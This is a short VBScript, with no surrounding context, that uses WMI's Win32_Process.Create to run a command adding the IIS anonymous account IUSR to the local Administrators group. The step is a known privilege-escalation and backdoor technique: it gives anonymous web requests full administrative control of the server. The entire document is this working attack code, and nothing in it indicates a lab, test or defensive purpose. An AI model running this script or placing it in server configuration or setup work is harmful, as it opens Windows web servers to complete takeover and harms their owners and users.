Set process = GetObject("winmgmts:root\cimv2:Win32_Process")
result = process.Create("net localgroup Administrators IUSR /add", Null, Null, pid)
If result <> 0 Then WScript.Quit 1
